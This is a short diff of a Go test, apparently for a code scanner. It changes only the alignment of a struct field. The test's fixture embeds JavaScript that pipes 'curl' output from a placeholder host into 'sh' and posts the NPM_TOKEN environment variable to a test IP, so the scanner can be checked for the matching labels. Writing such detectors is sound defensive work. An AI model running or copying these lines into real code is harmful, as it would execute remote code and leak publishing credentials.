@@ -91,7 +91,7 @@ func TestLexicalPastBudget(t *testing.T) {
 	lib := strings.Repeat("function add(a, b) { return a + b; }\n", 4000) // ~150 KB of code
 	cases := []struct {
 		path, src, call string
-		want          []string
+		want            []string
 	}{
 		{"a.js", "const cp = require('child_process');\n" + lib + "cp.exec('curl http://x.invalid/p | sh');\nfetch('http://192.0.2.1/x', {body: process.env.NPM_TOKEN});\n",
 			"cp.exec(", []string{"process.call", "shell.script", "shell.download_exec", "url.ip", "net.call", "env.read"}},
